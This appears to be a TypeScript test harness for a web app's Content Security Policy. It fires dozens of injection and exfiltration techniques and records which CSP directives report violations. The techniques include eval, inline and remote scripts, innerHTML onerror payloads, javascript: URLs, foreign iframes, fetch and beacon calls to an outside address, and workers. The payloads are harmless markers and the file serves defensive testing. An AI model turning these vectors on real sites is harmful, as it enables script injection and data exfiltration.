// Runs in a page under the planner's policy, as one of its own scripts: what is run from outside, by DevTools, is not held
// to a policy. Served as it stands, without its types, so it may import nothing.

/** What a page that was broken into would try. Each gets an address that is not ours, and code that tells on itself. */
export const attempts: Readonly<Record<string, (foreign: string, code: string) => unknown>> = {
  'eval': (_foreign, code) => globalThis['eval' as 'atob'](code),
  'new Function': (_foreign, code) => (Reflect.construct(Function, [code]) as () => unknown)(),
  'a constructor of a constructor': (_foreign, code) => (Reflect.construct((async () => undefined).constructor as typeof Function, [code]) as () => unknown)(),
  'setTimeout with text': (_foreign, code) => setTimeout(code as unknown as () => void, 0),
  'setInterval with text': (_foreign, code) => setInterval(code as unknown as () => void, 10),
  'WebAssembly': () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])),

  'an inline script': (_foreign, code) => document.head.append(made('script', {}, code)),
  'the text of a script': (_foreign, code) => document.head.append(Object.assign(document.createElement('script'), { text: code })),
  'a module in the page': (_foreign, code) => document.head.append(made('script', { type: 'module' }, code)),
  'a script from elsewhere': (foreign) => document.head.append(Object.assign(document.createElement('script'), { src: `${foreign}/a.js` })),
  'the address of a script': (foreign) => document.head.append(made('script', { src: `${foreign}/b.js` })),
  'a module from elsewhere': (foreign) => import(/* @vite-ignore */ `${foreign}/c.js`),
  'a module in an address': (_foreign, code) => import(/* @vite-ignore */ `data:text/javascript,${code}`),
  'an import map': (foreign) => document.head.append(made('script', { type: 'importmap' }, `{"imports":{"x":"${foreign}/x.js"}}`)),
  'rules for speculation': (foreign) => document.head.append(made('script', { type: 'speculationrules' }, `{"prefetch":[{"source":"list","urls":["${foreign}/s"]}]}`)),
  'an event attribute': (_foreign, code) => document.body.append(made('img', { onerror: code, src: '/missing.png' })),

  'innerHTML': (_foreign, code) => Object.assign(document.createElement('div'), { innerHTML: `<img src=x onerror="${code}">` }),
  'outerHTML': (_foreign, code) => Object.assign(inBody('div'), { outerHTML: `<script>${code}</script>` }),
  'insertAdjacentHTML': (_foreign, code) => document.body.insertAdjacentHTML('beforeend', `<script>${code}</script>`),
  'document.write': (_foreign, code) => Reflect.apply(Reflect.get(document, 'write') as () => unknown, document, [`<script>${code}</script>`]) as unknown,
  'a fragment of text': (_foreign, code) => document.createRange().createContextualFragment(`<script>${code}</script>`),
  'a parsed document': (_foreign, code) => new DOMParser().parseFromString(`<script>${code}</script>`, 'text/html'),
  'setHTMLUnsafe': (_foreign, code) => document.createElement('div').setHTMLUnsafe(`<script>${code}</script>`),
  'a frame of text': (_foreign, code) => document.body.append(made('iframe', { srcdoc: `<script>parent.${code}</script>` })),

  'a policy of its own for trusted text': (_foreign, code) => {
    const { trustedTypes } = globalThis as unknown as { readonly trustedTypes: { createPolicy(name: string, rules: object): { createScript(text: string): string } } }
    document.head.append(made('script', {}, trustedTypes.createPolicy('mine', { createScript: (text: string) => text }).createScript(code)))
  },
  'a javascript: link': (_foreign, code) => inBody('a', { href: `javascript:${code}` }).click(),
  'a javascript: link in SVG': (_foreign, code) => {
    const link = document.createElementNS('http://www.w3.org/2000/svg', 'a')
    link.setAttribute('href', `javascript:${code}`)
    document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(link)
    link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  },
  'going to javascript:': (_foreign, code) => location.assign(`javascript:${code}`),
  'a form to javascript:': (_foreign, code) => inBody('form', { action: `javascript:${code}` }).submit(),
  'a form sent elsewhere': (foreign) => inBody('form', { action: `${foreign}/form`, method: 'post' }).submit(),
  'a form sent home': () => inBody('form', { action: '/', method: 'post' }).submit(),
  'a base elsewhere': (foreign) => document.head.append(made('base', { href: `${foreign}/base/` })),

  'a frame from elsewhere': (foreign) => document.body.append(made('iframe', { src: `${foreign}/frame` })),
  'a frame of ourselves': () => document.body.append(made('iframe', { src: '/index.html?framed' })),
  'a frame in an address': (_foreign, code) => document.body.append(made('iframe', { src: `data:text/html,<script>parent.${code}</script>` })),
  'an object': (foreign) => document.body.append(made('object', { data: `${foreign}/object` })),
  'an embedded thing': (foreign) => document.body.append(made('embed', { src: `${foreign}/embed` })),

  'fetch': (foreign) => fetch(`${foreign}/fetch`, { mode: 'no-cors' }),
  'XMLHttpRequest': (foreign) => {
    const request = new XMLHttpRequest()
    request.open('GET', `${foreign}/xhr`)
    request.send()
  },
  'a WebSocket that all can read': () => new WebSocket('ws://planner.invalid/socket'),
  'an EventSource': (foreign) => new EventSource(`${foreign}/events`),
  'a beacon': (foreign) => navigator.sendBeacon(`${foreign}/beacon`, 'secret'),
  'a ping': (foreign) => inBody('a', { href: '#ping', ping: `${foreign}/ping` }).click(),
  'a prefetch': (foreign) => document.head.append(made('link', { rel: 'prefetch', href: `${foreign}/prefetch` })),
  'a preload': (foreign) => document.head.append(made('link', { rel: 'preload', as: 'image', href: `${foreign}/preload` })),
  'a preloaded module': (foreign) => document.head.append(made('link', { rel: 'modulepreload', href: `${foreign}/preload.js` })),
  'a picture': (foreign) => new Image().setAttribute('src', `${foreign}/picture`),
  'a picture in SVG': (foreign) => {
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image')
    image.setAttribute('href', `${foreign}/svg`)
    document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg')).append(image)
  },
  'a background': (foreign) => inBody('p').style.setProperty('background-image', `url(${foreign}/background)`),
  'a font': (foreign) => new FontFace('x', `url(${foreign}/font)`).load(),
  'a film': (foreign) => document.body.append(made('video', { src: `${foreign}/film`, preload: 'auto' })),
  'a sound in an address': () => document.body.append(made('audio', { src: 'data:audio/wav;base64,AA', preload: 'auto' })),

  'a stylesheet from elsewhere': (foreign) => document.head.append(made('link', { rel: 'stylesheet', href: `${foreign}/style` })),
  'a style in the page': () => document.head.append(made('style', {}, 'body { color: red }')),
  'an import of a style': (foreign) => document.head.append(made('style', {}, `@import url(${foreign}/import)`)),
  'a style attribute': () => inBody('p').setAttribute('style', 'color: red'),

  'a worker of text': (_foreign, code) => new Worker(URL.createObjectURL(new Blob([code]))),
  'a worker in an address': (_foreign, code) => new Worker(`data:text/javascript,${code}`),
  'a worker from elsewhere': (foreign) => new Worker(`${foreign}/worker.js`),
  'a shared worker': (_foreign, code) => new SharedWorker(`data:text/javascript,${code}`),
  'a service worker': () => navigator.serviceWorker.register('/attempts.js'),
}

function made(tag: string, attributes: Readonly<Record<string, string>> = {}, text = ''): HTMLElement {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  if (text !== '') element.append(text)
  return element
}

function inBody<T extends keyof HTMLElementTagNameMap>(tag: T, attributes: Readonly<Record<string, string>> = {}): HTMLElementTagNameMap[T] {
  const element = document.createElement(tag)
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
  document.body.append(element)
  return element
}

/** Makes each attempt in turn, and says of each what the policy said to it; nothing when it said nothing. */
export async function tryAll(foreign: string): Promise<Record<string, readonly string[]>> {
  const answers: Record<string, readonly string[]> = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    const said: string[] = []
    const first = Promise.withResolvers<void>()
    const listen = ({ effectiveDirective }: SecurityPolicyViolationEvent): void => {
      said.push(effectiveDirective)
      first.resolve()
    }
    document.addEventListener('securitypolicyviolation', listen)
    await Promise.resolve().then(() => attempt(foreign, `ran.push(${JSON.stringify(name).replaceAll('"', '`')})`)).catch(() => undefined)
    await Promise.race([first.promise, new Promise((late) => setTimeout(late, 4_000))])
    await new Promise((settled) => setTimeout(settled, 15))
    document.removeEventListener('securitypolicyviolation', listen)
    answers[name] = said
  }
  return answers
}
